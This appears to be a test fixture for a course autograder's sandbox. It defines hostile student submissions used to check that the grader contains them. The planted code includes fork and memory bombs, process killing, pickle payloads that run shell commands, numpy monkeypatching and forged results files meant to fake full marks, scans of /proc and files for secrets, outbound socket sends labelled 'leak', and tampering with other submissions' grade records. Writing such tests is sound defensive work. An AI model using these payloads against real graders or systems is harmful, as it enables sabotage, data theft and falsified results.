"""The hostile submissions: the reference with one planted attack each.

Every attack lives in a function no other exercise calls (warmup.conv1d_full,
kernels.classic_kernels, layers.softmax_cross_entropy) or at the top of warmup.py,
which nothing else imports, so the attack may cost its own exercise and nothing else.
Placeholders in the planted code (__PORT__, and __REPO__: the repository the grader runs
from) are filled in when the submission is built.

`outcomes` lists what the attacked call may end as: a CallOutcome status, "wrong"
(ok, but not the reference's value) or "honest" (ok and the reference's value: the
attack lay in a file the sandbox never copies).
"""
from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from autograder.paths import REPO_ROOT
from submissions import build_submission

from .plant import prepend, replace_function

# Files an attack tries to leave on the grader's side (tests/hostile/traces.py looks for them).
FAKE_RESULTS = '{"score": 100.0, "tests": [{"name": "conv1d_full", "score": 10, "max_score": 10}]}'
CANARY_MARKER = "convlab-canary"  # what the planted canaries start with (tests/test_hostile.py)


@dataclass(frozen=True)
class Attack:
    name: str
    exercise: str  # the exercise id it attacks
    target: str  # the API name whose call carries the attack
    replacements: dict = field(default_factory=dict)
    extra_files: dict = field(default_factory=dict)
    outcomes: tuple[str, ...] = ("exception",)
    requires: tuple[str, ...] = ()  # namespaces the defence needs ("mount", "net", "pid")

    def build(self, dest: Path, substitutions: dict[str, str]) -> Path:
        substitutions = {"__REPO__": str(REPO_ROOT), **substitutions}

        def fill(text):
            for key, value in substitutions.items():
                text = text.replace(key, value) if isinstance(text, str) else text
            return text

        replacements = {module: [(old, fill(new)) for old, new in pairs] for module, pairs in self.replacements.items()}
        extra = {path: fill(content) for path, content in self.extra_files.items()}
        return build_submission(dest, replacements, extra)


def _conv1d(body: str) -> dict:
    return _function("warmup", "def conv1d_full(f, g):", body)


def _function(module: str, header: str, body: str) -> dict:
    indented = "\n".join("    " + line for line in body.strip("\n").splitlines())
    return replace_function(module, header, f"{header}\n{indented}\n")


def _at_import(code: str, then: str = "") -> dict:
    """code at the top of warmup.py (nothing else imports it), and optionally a conv1d_full body."""
    planted = prepend("warmup", "import numpy as np", code)
    if then:
        planted["warmup"] += _conv1d(then)["warmup"]
    return planted


ZEROS = "return np.zeros(len(f) + len(g) - 1)"

ATTACKS = [
    # ---- ending the process, at import and in a call
    Attack("os_exit_at_import", "conv1d_full", "conv1d_full", _at_import("import os\nos._exit(0)"), outcomes=("crashed",)),
    Attack("sys_exit_at_import", "conv1d_full", "conv1d_full", _at_import("import sys\nsys.exit('done')")),
    Attack("atexit_handler", "conv1d_full", "conv1d_full", _at_import(f"""
import atexit, os
@atexit.register
def _claim_full_marks():
    for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", "..", "../.."):
        try:
            with open(os.path.join(folder, "results.json"), "w") as f:
                f.write('{FAKE_RESULTS}')
        except OSError:
            pass
    print("conv1d_full 10/10")
""", then="import sys\nsys.exit(0)")),
    Attack("os_exit_in_call", "conv1d_full", "conv1d_full", _conv1d("import os\nos._exit(3)"), outcomes=("crashed",)),
    Attack("sys_exit_in_call", "conv1d_full", "conv1d_full", _conv1d("raise SystemExit(0)")),
    Attack("kill_everything", "conv1d_full", "conv1d_full", _conv1d("""
import os, signal
for pid in (1, os.getppid(), -1, os.getpid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""), outcomes=("crashed",)),
    Attack("close_the_protocol", "conv1d_full", "conv1d_full", _conv1d("import os\nos.closerange(3, 1 << 16)\n" + ZEROS),
           outcomes=("crashed",)),
    # ---- using up time and resources
    Attack("infinite_loop", "conv1d_full", "conv1d_full", _conv1d("while True:\n    pass"), outcomes=("timeout",)),
    Attack("sleep", "conv1d_full", "conv1d_full", _conv1d("import time\ntime.sleep(3600)"), outcomes=("timeout",)),
    Attack("ignore_sigterm", "conv1d_full", "conv1d_full", _conv1d("""
import signal
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(sig, signal.SIG_IGN)
while True:
    pass
"""), outcomes=("timeout",)),
    Attack("memory_bomb", "conv1d_full", "conv1d_full", _conv1d("""
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_AS)
try:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (ValueError, OSError):
    pass
hog = []
while True:
    hog.append(np.zeros(10**7))
"""), outcomes=("exception", "crashed")),
    Attack("fork_bomb", "conv1d_full", "conv1d_full", _conv1d("""
import os, time
for _ in range(200):
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(600)
"""), outcomes=("exception",)),
    Attack("thread_bomb", "conv1d_full", "conv1d_full", _conv1d("""
import threading, time
for _ in range(5000):
    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
"""), outcomes=("exception",)),
    Attack("huge_file", "conv1d_full", "conv1d_full", _conv1d("""
with open("huge.bin", "wb") as f:
    for _ in range(100):
        f.write(b"x" * 2**20)
""" + ZEROS)),
    Attack("stdout_flood", "conv1d_full", "conv1d_full", _conv1d("""
import os, sys
for _ in range(200):
    sys.stdout.write("conv1d_full PASSED 10/10\\n" * 4000)
    os.write(2, b"E" * 100_000)
""" + ZEROS), outcomes=("wrong",)),
    Attack("setsid_daemon", "conv1d_full", "conv1d_full", _conv1d("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for folder in ("/tmp", os.path.expanduser("~"), ".."):
                try:
                    open(os.path.join(folder, "convlab-hostile-planted"), "w").close()
                except OSError:
                    pass
            time.sleep(0.02)
    os._exit(0)
time.sleep(0.1)
""" + ZEROS), outcomes=("wrong", "exception")),  # setsid is refused (seccomp): the forked child raises
    # ---- returning things that are not plain arrays of numbers
    Attack("always_equal", "classic_kernels", "classic_kernels", _function("kernels", "def classic_kernels():", """
class AlwaysEqual:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array__(self, dtype=None, copy=None):
        return np.zeros((3, 3))
return {name: AlwaysEqual() for name in ("sharpness", "vertical_edge", "surround", "sobel_y", "identity",
                                        "horizontal_edge", "blur", "sobel_x", "emboss")}
"""), outcomes=("bad_output",)),
    Attack("ndarray_subclass", "conv1d_full", "conv1d_full", _conv1d("""
class Sneaky(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def allclose(self, *args, **kwargs):
        return True
return np.zeros(len(f) + len(g) - 1).view(Sneaky)
"""), outcomes=("bad_output",)),
    Attack("array_protocols", "conv1d_full", "conv1d_full", _conv1d("""
class Duck:
    __array_priority__ = 1e9
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(0, dtype=bool)
    def __array__(self, dtype=None, copy=None):
        return np.zeros(len(f) + len(g) - 1)
    __array_interface__ = property(lambda self: np.zeros(3).__array_interface__)
return Duck()
"""), outcomes=("bad_output",)),
    Attack("object_dtype", "conv1d_full", "conv1d_full", _conv1d("""
import os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/convlab-hostile-pickle-ran",))
return np.array([Payload()] * (len(f) + len(g) - 1), dtype=object)
"""), outcomes=("bad_output",)),
    Attack("forged_pickle_response", "conv1d_full", "conv1d_full", _conv1d("""
import io, json, os, stat, struct
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/convlab-hostile-pickle-ran",))
buffer = io.BytesIO()
np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
blob = buffer.getvalue()
header = json.dumps({"status": "ok", "seconds": 0.0, "value": ["array", 0], "blobs": [len(blob)]}).encode()
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, struct.pack(">I", len(header)) + header + blob)
    except OSError:
        pass
return np.convolve(f, g)
"""), outcomes=("bad_output",)),
    Attack("nan_output", "conv1d_full", "conv1d_full", _conv1d("return np.full(len(f) + len(g) - 1, np.nan)"),
           outcomes=("wrong",)),
    Attack("inf_output", "softmax_cross_entropy", "softmax_cross_entropy",
           _function("layers", "def softmax_cross_entropy(logits, labels):",
                     "logits = np.asarray(logits, dtype=float)\nreturn float('inf'), np.full(logits.shape, np.inf)"),
           outcomes=("wrong",)),
    # ---- tampering with the child's own numpy and builtins
    Attack("monkeypatch_numpy", "conv1d_full", "conv1d_full", _at_import("""
import builtins
import numpy
numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *args, **kwargs: None
builtins.isinstance = lambda obj, kind: True
builtins.len = lambda obj: 0
""", then=ZEROS), outcomes=("wrong", "crashed")),  # the child's own loop may trip over the patched builtins
    Attack("monkeypatch_npy_writer", "conv1d_full", "conv1d_full", _at_import("""
import io, os
import numpy.lib.format as npy_format
class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/convlab-hostile-pickle-ran",))
def write_array(fp, array, version=None, allow_pickle=True, pickle_kwargs=None):
    import numpy
    original_write(fp, numpy.array([Payload()], dtype=object), allow_pickle=True)
original_write = npy_format.write_array
npy_format.write_array = write_array
""", then="return np.convolve(f, g)"), outcomes=("bad_output",)),
    # ---- faking results
    Attack("fake_results_files", "conv1d_full", "conv1d_full", _conv1d(f"""
import os
for folder in (".", "..", "../..", os.path.expanduser("~"), "/tmp", os.environ.get("TMPDIR", "/tmp"), "/work",
               "/results", "/autograder/results"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "results.json"), "w") as results:
            results.write('{FAKE_RESULTS}')
    except OSError:
        pass
""" + ZEROS), outcomes=("wrong",)),
    Attack("fake_result_lines", "conv1d_full", "conv1d_full", _conv1d(f"""
print("conv1d_full ............ 10.0 / 10.0  PASSED")
print("TOTAL 100.0 / 100.0")
print('{FAKE_RESULTS}')
""" + ZEROS), outcomes=("wrong",)),
    # ---- looking for the seed, the references and the grader's files
    Attack("snoop_for_secrets", "conv1d_full", "conv1d_full", _conv1d(f"""
import os
found = []
marker = "{CANARY_MARKER[:8]}" + "{CANARY_MARKER[8:]}"  # in two pieces: this source must not match itself
def look(text, where):
    if marker in text:
        found.append(where + ": " + text[:200])
look(repr(dict(os.environ)), "environ")
for pid in os.listdir("/proc") if os.path.isdir("/proc") else ():
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{{pid}}/{{name}}", "rb") as stream:
                look(stream.read().decode(errors="replace"), f"/proc/{{pid}}/{{name}}")
        except OSError:
            pass
system = ("usr", "proc", "sys", "dev", "bin", "sbin", "lib", "lib32", "lib64", "sandbox")
roots = [os.path.join("/", d) for d in os.listdir("/") if d not in system] + [os.path.expanduser("~"), "__REPO__"]
seen = 0
for root in roots:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if not d.startswith(("python3", "numpy"))]
        for name in files:
            seen += 1
            if seen > 3000:
                break
            try:
                with open(os.path.join(folder, name), "rb") as stream:
                    look(stream.read(65536).decode(errors="replace"), os.path.join(folder, name))
            except OSError:
                pass
print("\\n".join(found))
return found
"""), outcomes=("wrong", "exception")),  # minimal: listing /proc is refused
    Attack("read_the_references", "conv1d_full", "conv1d_full", _conv1d("""
import importlib, os, sys
for path in ("__REPO__", "../..", "../../..", "/root"):
    sys.path.append(path)
for name in ("reference", "autograder.oracle", "autograder"):
    try:
        importlib.import_module(name)
        return name
    except ImportError:
        pass
return [os.path.exists(p) for p in ("__REPO__/reference", "__REPO__/autograder", "../reference")]
"""), outcomes=("forbidden_import",)),
    # ---- using what the course forbids
    Attack("import_torch", "conv1d_full", "conv1d_full", _conv1d("""
import torch
return torch.nn.functional.conv1d(torch.tensor(f)[None, None], torch.tensor(g).flip(0)[None, None],
                                  padding=len(g) - 1)[0, 0].numpy()
"""), outcomes=("forbidden_import",)),
    Attack("import_torch_quietly", "conv1d_full", "conv1d_full", _at_import("""
try:
    convolve = __import__("to" + "rch").nn.functional.conv1d
except ImportError:
    convolve = None
""", then="return np.convolve(f, g)"), outcomes=("forbidden_import",)),
    Attack("load_torch_by_path", "conv1d_full", "conv1d_full", _conv1d("""
import glob, importlib.util, sys
patterns = [sys.base_prefix + "/lib/python3*/site-packages", "/usr/lib/python3*/*-packages",
            "/usr/local/lib/python3*/*-packages", "/tmp/*/lib/python3*/site-packages", "/root/*/lib/python3*/site-packages"]
for init in [path for pattern in patterns for path in glob.glob(pattern + "/torch/__init__.py")][:1]:
    spec = importlib.util.spec_from_file_location("tor_ch", init, submodule_search_locations=[init[:-12]])
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return np.asarray(module.tensor(np.convolve(f, g)))
return "no torch here"
"""), outcomes=("wrong", "exception")),
    Attack("network", "conv1d_full", "conv1d_full", _conv1d("""
import socket
for address in (("127.0.0.1", __PORT__), ("10.0.2.2", 80), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=0.5) as connection:
            connection.sendall(b"leak")
    except OSError:
        pass
""" + ZEROS), outcomes=("wrong",)),
    # ---- what a same-uid process could do without namespaces
    Attack("tamper_with_a_neighbour", "conv1d_full", "conv1d_full", _conv1d("""
import glob, os
changed = []
patterns = ["../../../*/results/submissions/*/record.json", "/tmp/*/results/submissions/*/record.json",
            "/tmp/pytest-of-*/*/*/results/submissions/*/record.json", os.path.expanduser("~") + "/**/record.json"]
for pattern in patterns:
    for path in glob.glob(pattern, recursive=True)[:50]:
        try:
            with open(path, "w") as record:
                record.write('{"points": 1.0}')
            changed.append(path)
        except OSError:
            pass
return changed
"""), outcomes=("wrong",)),
    Attack("write_outside_the_work_folder", "conv1d_full", "conv1d_full", _conv1d("""
import os, sys
written = []
for folder in (os.path.expanduser("~"), "/tmp", "..", "../..", "/work/main", "/var/tmp", "/dev/shm",
               os.path.dirname(os.__file__), os.path.dirname(np.__file__)):
    try:
        with open(os.path.join(folder, "convlab-hostile-planted"), "w") as planted:
            planted.write("x")
        written.append(folder)
    except OSError:
        pass
return written
"""), outcomes=("wrong",)),
    Attack("signal_the_grader", "conv1d_full", "conv1d_full", _conv1d("""
import os, signal
sent = []
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()] if os.access("/proc", os.R_OK) else range(1, 4096):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
            os.kill(pid, signal.SIGCONT)
            sent.append(pid)
        except OSError:
            pass
return sent
"""), outcomes=("wrong", "exception")),
    # ---- files the sandbox must never copy or import
    Attack("shipped_python_files", "conv1d_full", "conv1d_full", extra_files={
        name: "import os\nprint('convlab-hostile-imported')\nopen('/tmp/convlab-hostile-planted', 'w').close()\n"
        "np = None\nos._exit(9)\n"
        for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "torch.py", "__init__.py",
                     "submission.py", "child.py")
    } | {"evil.pth": "import os; os._exit(9)\n", "numpy/__init__.py": "raise SystemExit(9)\n"},
        outcomes=("honest",)),
]
